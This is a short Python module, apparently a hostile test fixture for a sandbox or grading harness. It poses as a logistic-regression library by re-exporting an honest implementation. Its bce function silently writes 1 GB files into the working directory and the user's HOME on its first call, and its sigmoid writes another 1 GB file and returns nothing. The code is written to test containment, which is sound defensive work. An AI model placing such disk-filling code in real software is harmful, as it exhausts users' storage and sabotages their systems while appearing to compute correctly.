"""Hostile: fill the disk."""

import os

import _hostile
from _honest_logistic_regression import *  # noqa: F403
from _honest_logistic_regression import bce as _honest_bce

_hostile.ran("import")
CHUNK = bytes(1 << 20)


def _fill(path):
    with open(path, "wb") as f:
        for _ in range(1024):
            f.write(CHUNK)


def bce(p, y, eps=1e-12):
    if _hostile.ONCE.setdefault("bce", True) is not True:
        return _honest_bce(p, y, eps)
    _hostile.ONCE["bce"] = False
    for folder in (".", os.environ.get("HOME", ".")):
        try:
            _fill(os.path.join(folder, "huge.bin"))
            _hostile.note("wrote-1GB", folder)
        except OSError as e:
            _hostile.note("refused", repr(e))
    return _honest_bce(p, y, eps)


def sigmoid(z):
    _fill("huge-too.bin")
